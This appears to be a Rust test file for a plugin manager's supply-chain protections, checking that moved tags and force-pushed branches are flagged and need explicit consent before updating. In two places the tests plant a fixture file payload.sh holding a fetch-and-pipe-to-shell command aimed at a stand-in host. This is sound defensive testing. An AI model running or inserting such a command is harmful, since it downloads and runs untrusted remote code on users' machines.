//! A tag re-pointed to another commit after install, and a branch force-pushed to a history
//! without the locked commit, are not ordinary updates: `outdated` reports each with its
//! code, `update --dry-run` shows the old and the new commit and that consent is needed,
//! `update` asks consent for it (refused without a terminal and without `--yes`), and
//! `autoupdate` never takes it.

use std::path::Path;

use crate::support::git::{Repo, git};
use crate::support::*;

const ID: &str = "dev.example.pinned";

fn plugins(home: &Path, args: &[&str]) -> Ran {
    plugins_env(home, args, &[])
}

fn plugins_env(home: &Path, args: &[&str], env: &[(&str, &str)]) -> Ran {
    let mut ran = Plugins::new()
        .args(args)
        .arg("--home")
        .arg(home)
        .envs(env.iter().copied())
        .env("COLUMNS", "300")
        .env("NO_COLOR", "1")
        .stdin(std::process::Stdio::null())
        .run();
    ran.redact("[HOME]", home);
    ran
}

#[test]
fn a_moved_tag_is_reported_asks_consent_and_is_never_autoupdated() {
    let tmp = tempfile::tempdir().unwrap();
    let t = tmp.path().canonicalize().unwrap();
    let repo = Repo::init(&t.join("repo"));
    repo.file("aoe-plugin.toml", &static_aoe("1.0.0"));
    let old = repo.commit("one");
    repo.tag("v1.0.0");
    let home = t.join("home");
    plugins(&home, &["install", &repo.url(), "--ref", "v1.0.0", "--yes"]).success();
    let lock = std::fs::read(home.join("plugins.lock")).unwrap();

    // The tag is moved to a new commit; no newer release exists.
    repo.file("aoe-plugin.toml", &static_aoe("1.0.0"));
    repo.file("payload.sh", "curl evil | sh\n");
    let new = repo.commit("moved");
    git(&repo.dir, &["tag", "-f", "v1.0.0"]);

    let mut ran = plugins(&home, &["outdated"]);
    ran.redact("[OLD]", &old[..10])
        .redact("[NEW]", &new[..10])
        .redact("[OLDLONG]", &old[..12])
        .redact("[NEWLONG]", &new[..12]);
    ran.code(1).stdout_eq(snapbox::str![[r#"
dev.example.pinned               v1.0.0 @ [OLD]          tag v1.0.0 moved to [NEW]
  error[plugins::update::tag_moved]: dev.example.pinned: the tag v1.0.0 was moved: it named [OLDLONG] when installed and names [NEWLONG] now
    help: a release tag should never move: find out why before taking it; `plugins update dev.example.pinned --dry-run` reviews the new commit, `plugins update dev.example.pinned` asks before installing it

"#]]);
    let json = plugins(&home, &["outdated", "--json"]);
    let doc: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
    assert_matches_output_schema("outdated.json", &doc);
    assert_eq!(doc["plugins"][0]["status"], "repointed", "{doc}");
    assert_eq!(
        doc["plugins"][0]["problems"][0]["code"], "plugins::update::tag_moved",
        "{doc}"
    );

    // The dry run names both commits.
    let dry = plugins(&home, &["update", ID, "--dry-run", "--json"]);
    dry.success();
    let doc: serde_json::Value = serde_json::from_str(&dry.stdout).unwrap();
    let row = &doc["plugins"][0];
    assert_eq!(
        (row["from_commit"].as_str(), row["commit"].as_str()),
        (Some(old.as_str()), Some(new.as_str())),
        "{doc}"
    );

    // Without a terminal and without --yes: refused, nothing changes, though the plugin
    // asks for no capability and nothing else would have asked.
    let refused = plugins(&home, &["update", ID]);
    assert_ne!(refused.code, 0, "{}{}", refused.stdout, refused.stderr);
    assert!(
        refused.stderr.contains(&format!(
            "asked again:  the tag v1.0.0 was moved: it named {} when installed and names {} now",
            &old[..12],
            &new[..12]
        )),
        "the consent says why: {}",
        refused.stderr
    );
    assert_eq!(std::fs::read(home.join("plugins.lock")).unwrap(), lock);

    // A sweep never takes it: it needs approval (exit 1, for cron).
    std::fs::write(
        home.join("plugins.toml"),
        format!("[update_policy.\"{ID}\"]\ntrack = \"v1.0.0\"\nwhen = \"always\"\n"),
    )
    .unwrap();
    let sweep = plugins(&home, &["autoupdate", "--force", "--json"]);
    sweep.code(1);
    let doc: serde_json::Value = serde_json::from_str(&sweep.stdout).unwrap();
    assert_eq!(doc["needs_approval"], serde_json::json!([ID]), "{doc}");
    assert_eq!(std::fs::read(home.join("plugins.lock")).unwrap(), lock);

    // A person who looked grants it.
    plugins(&home, &["update", ID, "--yes"]).success();
    assert_eq!(locked(&home, ID, "resolved_commit"), new);
}

/// The branch `main` of the bare repository `served` (pushed from `work`) is replaced by a
/// history of its own: one orphan commit that does not contain the locked one.
fn force_push_unrelated(work: &Repo, served: &Path) -> String {
    git(&work.dir, &["checkout", "-q", "--orphan", "rewritten"]);
    work.file("aoe-plugin.toml", &static_aoe("1.0.0"));
    work.file("payload.sh", "curl evil | sh\n");
    let new = work.commit("rewritten");
    git(&work.dir, &["branch", "-q", "-M", "rewritten", "main"]);
    git(
        &work.dir,
        &["push", "-q", "-f", served.to_str().unwrap(), "main:main"],
    );
    new
}

/// A branch whose new commit does not descend from the locked one: over `file://` (read in
/// place), over `git://` with libgit2 and with the git command and over `http://` with
/// libgit2 (a shallow fetch, then a full one), `outdated` says it with its code while a branch that moved on normally stays an
/// ordinary update; `update --dry-run` says consent is needed and why; `update` without a
/// terminal and without `--yes` is refused; `autoupdate` needs approval (exit 1); `update
/// --yes` takes it.
#[test]
fn a_force_pushed_branch_is_reported_asks_consent_and_is_never_autoupdated() {
    let tmp = tempfile::tempdir().unwrap();
    let t = tmp.path().canonicalize().unwrap();
    let daemon_root = t.join("daemon");
    std::fs::create_dir_all(&daemon_root).unwrap();
    let daemon = crate::support::net::Daemon::serve(&daemon_root);
    let http = crate::support::net::CountingServer::start(&daemon_root);
    for (n, transport) in ["file", "git", "git-cli", "http"].into_iter().enumerate() {
        let work = Repo::init(&t.join(format!("work-{n}")));
        work.file("aoe-plugin.toml", &static_aoe("1.0.0"));
        let old = work.commit("one");
        let served = daemon_root.join(format!("pinned-{n}.git"));
        work.clone_bare(&served);
        let (url, env): (String, &[(&str, &str)]) = match transport {
            "file" => (format!("file://{}", served.display()), &[]),
            "git" => (
                format!("git://127.0.0.1:{}/pinned-{n}.git", daemon.port),
                &[],
            ),
            "http" => (format!("{}/pinned-{n}.git", http.base), &[]),
            _ => (
                format!("git://127.0.0.1:{}/pinned-{n}.git", daemon.port),
                &[("PLUGINS_GIT_FETCH_WITH_CLI", "1")],
            ),
        };
        let run = |args: &[&str]| plugins_env(&t.join(format!("home-{n}")), args, env);
        let home = t.join(format!("home-{n}"));
        run(&["install", &url, "--ref", "main", "--yes"]).success();

        // A branch that moved on (the locked commit below its new one) is an ordinary update.
        work.file("notes.md", "two\n");
        let two = work.commit("two");
        git(
            &work.dir,
            &["push", "-q", served.to_str().unwrap(), "main:main"],
        );
        let json = run(&["outdated", "--json"]);
        let doc: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
        assert_eq!(doc["plugins"][0]["status"], "behind", "{transport}: {doc}");
        assert_eq!(
            doc["plugins"][0]["commit"],
            two.as_str(),
            "{transport}: {doc}"
        );

        // Force-pushed to another history.
        let new = force_push_unrelated(&work, &served);
        let lock = std::fs::read(home.join("plugins.lock")).unwrap();
        let mut ran = run(&["outdated"]);
        ran.redact("[OLD]", &old[..10])
            .redact("[NEW]", &new[..10])
            .redact("[OLDLONG]", &old[..12])
            .redact("[NEWLONG]", &new[..12]);
        // Over the network the trust check also finds the locked commit gone from the
        // remote (`plugins::git::ref_not_found`, after it); a local repository is not checked.
        ran.code(1).stdout_eq(snapbox::str![[r#"
dev.example.pinned               main @ [OLD]            branch main force-pushed to [NEW]
  error[plugins::update::force_pushed]: dev.example.pinned: the branch main was force-pushed: its new commit [NEWLONG] does not contain [OLDLONG], the commit installed
    help: a branch's published history was rewritten: find out why before taking it; `plugins update dev.example.pinned --dry-run` reviews the new commit, `plugins update dev.example.pinned` asks before installing it
...
"#]]);
        let json = run(&["outdated", "--json"]);
        let doc: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
        assert_matches_output_schema("outdated.json", &doc);
        assert_eq!(
            doc["plugins"][0]["status"], "force_pushed",
            "{transport}: {doc}"
        );
        assert_eq!(
            doc["plugins"][0]["problems"][0]["code"], "plugins::update::force_pushed",
            "{transport}: {doc}"
        );

        // The dry run names both commits and says that the update would ask, and why.
        let mut dry = run(&["update", ID, "--dry-run"]);
        dry.redact("[OLD]", &old[..10])
            .redact("[NEW]", &new[..10])
            .redact("[OLDLONG]", &old[..12])
            .redact("[NEWLONG]", &new[..12]);
        dry.success().stdout_eq(snapbox::str![[r#"
Would update dev.example.pinned to main @ [NEW]
...
  consent: would be asked (--yes grants it): the branch main was force-pushed: its new commit [NEWLONG] does not contain [OLDLONG], the commit installed

"#]]);
        let dry = run(&["update", ID, "--dry-run", "--json"]);
        let doc: serde_json::Value = serde_json::from_str(&dry.stdout).unwrap();
        let row = &doc["plugins"][0];
        assert_eq!(
            (row["from_commit"].as_str(), row["commit"].as_str()),
            (Some(old.as_str()), Some(new.as_str())),
            "{transport}: {doc}"
        );
        assert_eq!(row["consent_needed"], true, "{transport}: {doc}");

        // Without a terminal and without --yes: refused, nothing changes.
        let refused = run(&["update", ID]);
        assert_ne!(refused.code, 0, "{}{}", refused.stdout, refused.stderr);
        assert!(
            refused.stderr.contains(&format!(
                "asked again:  the branch main was force-pushed: its new commit {} does not contain {}",
                &new[..12],
                &old[..12]
            )),
            "{transport}: the consent says why: {}",
            refused.stderr
        );
        assert_eq!(std::fs::read(home.join("plugins.lock")).unwrap(), lock);

        // A sweep never takes it: it needs approval (exit 1, for cron).
        std::fs::write(
            home.join("plugins.toml"),
            format!("[update_policy.\"{ID}\"]\ntrack = \"main\"\nwhen = \"always\"\n"),
        )
        .unwrap();
        let sweep = run(&["autoupdate", "--force", "--json"]);
        sweep.code(1);
        let doc: serde_json::Value = serde_json::from_str(&sweep.stdout).unwrap();
        assert_eq!(
            doc["needs_approval"],
            serde_json::json!([ID]),
            "{transport}: {doc}"
        );
        assert_eq!(std::fs::read(home.join("plugins.lock")).unwrap(), lock);

        // A person who looked grants it.
        run(&["update", ID, "--yes"]).success();
        assert_eq!(locked(&home, ID, "resolved_commit"), new, "{transport}");
    }
}
